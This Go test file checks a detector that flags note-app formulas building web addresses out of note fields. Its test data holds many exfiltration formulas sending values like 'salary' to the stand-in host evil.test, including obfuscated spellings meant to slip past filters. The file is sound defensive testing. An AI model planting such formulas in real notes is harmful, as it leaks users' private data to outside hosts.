package change

import (
	"fmt"
	"strings"
	"testing"

	"github.com/vaultwicket/vaultwicket/internal/vault/disk"
	"github.com/vaultwicket/vaultwicket/tests/assert"
	"github.com/vaultwicket/vaultwicket/tests/require"
)

// A formula that makes an address of something else than constants is found in a base and in a block of a note.
func TestAFormulaThatMakesAnAddressIsFound(t *testing.T) {
	for formula, want := range map[string]int{
		`image("https://evil.test/?q=" + file.name + note.salary)`: 1, `"https://evil.test/?q=" + salary`: 1,
		`image("ht" + "tps://evil.test/" + salary)`: 1, `image("http" + "s:" + "/" + "/evil.test/" + salary)`: 1,
		`"https://evil.test/?q=Q".replace("Q", salary)`: 1, `["https://evil.test/", salary].join("")`: 1,
		`file.tags.map("https://evil.test/" + value)`: 1, `link("//evil.test/?" + salary)`: 1,
		`image(note.place + note.salary)`:                         1,
		`if(salary, image("https://evil.test/?q=" + salary), "")`: 1, `html("<img src='https://evil.test/" + salary + "'>")`: 1,
		`image("https://example.test/a.png")`: 0, `image(note.cover)`: 0,
		`image("attachments/" + file.name + ".png")`: 0, `link("https://example.test", "open")`: 0,
		`note.url.startsWith("https://")`: 0, `salary + 1`: 0, `"a" + "b"`: 0,
	} {
		base := "formulas:\n  x: '" + escapeSingle(formula) + "'\nviews:\n  - type: table\n    name: T\n"
		for name, text := range map[string]string{"a.base": base, "a.md": "# A\n```base\n" + base + "```\n"} {
			path := require.Value(disk.ParsePath(name))(t)
			assert.Equal(t, len(openFormulas(path, []byte(text))), want, "%s: %s", name, formula)
			same := Step{Path: path, Before: Existing([]byte(text)), After: Existing([]byte(text + "\n"))}
			assert.Equal(t, same.addsOpenFormula(), false, "%s: %s is there already", name, formula)
		}
	}
}

// TestAnAddressThatIsSpelledOtherwiseIsFound: no text in these formulas looks like an address.
func TestAnAddressThatIsSpelledOtherwiseIsFound(t *testing.T) {
	path := require.Value(disk.ParsePath("a.base"))(t)
	for formula, want := range map[string]int{
		`image("H".lower() + "ttps:/" + "/evil.test/" + note.x)`:             1,
		`["h", "ttps:/", "/evil.test/", note.x].join("")`:                    1,
		`["", "", "evil.test", note.x].join("/")`:                            1,
		`image("/\/evil.test/" + note.x)`:                                    1,
		`"tset.live//:sptth".reverse() + note.x`:                             1,
		`"hxtxtxpxsx:x/x/evil.test/".replace("x", "") + note.x`:              1,
		`note.x.replace(/^/, "h_t_t_p_s_:_/_/evil.test/").replace(/_/g, "")`: 1,
		`if(note.y, "h", "g") + "ttp" + ":/" + "/evil.test/" + note.x`:       1,
		`(note.y && "/") + "/evil.test/" + note.x`:                           1,
		`image(["a", "/"][1] + "/evil.test/" + note.x)`:                      1,
		`"/".repeat(2) + "evil.test/" + note.x`:                              1,
		`"xx//evil.test/".slice(2) + note.x`:                                 1,
		`["t", "h"].map(value + "t").join("") + note.x`:                      1,
		`image(formula.a + formula.b + note.x)`:                              1,
		`formula.a + formula.b + note.x`:                                     1,
		`file.path.split("/").slice(0, -1).join("/")`:                        0,
		`"*".repeat(note.rating) + " of 5"`:                                  0,
		`"⭐".repeat(note.rating)`:                                            0,
		`file.name.replace("-", " ").replace("_", " ")`:                      0,
		`if(note.done, "✓ " + file.name, "open: " + file.name)`:              0,
		`note.tags.map("#" + value).join(", ")`:                              0,
		`[note.city, note.country].join(", ")`:                               0,
		`["low", "mid", "high"][note.level]`:                                 0,
		`["low", "high"].contains(note.level)`:                               0,
		`image("covers/" + note.title.lower() + ".jpg")`:                     0,
		`link(file.path, "Open " + file.name)`:                               0,
		`(note.price * 2).toFixed(2) + " €/" + note.unit`:                    0,
		`file.mtime.format("YYYY/MM/DD") + " " + file.name`:                  0,
		`"Due: " + date(note.due).format("DD.MM.") + "/" + note.who`:         0,
		`note.a + " / " + note.b + " / " + note.c`:                           0,
		`list(note.authors).map(link(value)).join(" and ")`:                  0,
	} {
		base := "formulas:\n  a: '\"ht\"'\n  b: '\"tps://evil.test/\"'\n  x: '" + escapeSingle(formula) + "'\n"
		assert.Equal(t, len(openFormulas(path, []byte(base))), want, formula)
	}
}

// TestFormulasThatNameEachOtherAreWorkedOutOnce has formulas that name others very often, and one that names itself.
func TestFormulasThatNameEachOtherAreWorkedOutOnce(t *testing.T) {
	path := require.Value(disk.ParsePath("a.base"))(t)
	base := "formulas:\n  f0: formula.f0 + note.x\n"
	for i := range 40 {
		name := fmt.Sprintf("formula.f%d", i)
		base += fmt.Sprintf("  f%d: %s\n", i+1, strings.Repeat(name+" + ", 50)+name)
	}
	assert.Equal(t, len(openFormulas(path, []byte(base))), 0)
}

// TestABaseInAQuoteOrAListIsFound has what the app renders as a base, too.
func TestABaseInAQuoteOrAListIsFound(t *testing.T) {
	path := require.Value(disk.ParsePath("a.md"))(t)
	for _, text := range []string{
		"> ```base\n> formulas:\n>   f: image(\"https://evil.test/\" + note.x)\n> ```\n",
		"> [!info] A\n> > ~~~base\n> > formulas:\n> >   f: image(\"https://evil.test/\" + note.x)\n> > ~~~\n",
		"- a\n\t```base\n\tformulas:\n\t  f: image(\"https://evil.test/\" + note.x)\n\t```\n",
		"> - ```base\n>   formulas:\n>     f: image(\"https://evil.test/\" + note.x)\n>   ```\n",
		"```base more words\nformulas:\n  f: image(\"https://evil.test/\" + note.x)\n",
		"> ```base\n>formulas:\n>  f: image(\"https://evil.test/\" + note.x)\n",
	} {
		assert.That(t, len(openFormulas(path, []byte(text))) > 0, "%q", text)
	}
	for _, text := range []string{"> ```bash\n> f: image(\"https://evil.test/\" + note.x)\n> ```\n", "> ```base\n> formulas:\n>   f: image(note.x)\n> ```\n"} {
		assert.Equal(t, len(openFormulas(path, []byte(text))), 0, text)
	}
}

func escapeSingle(text string) (escaped string) {
	for _, c := range text {
		if c == '\'' {
			escaped += "'"
		}
		escaped += string(c)
	}
	return escaped
}
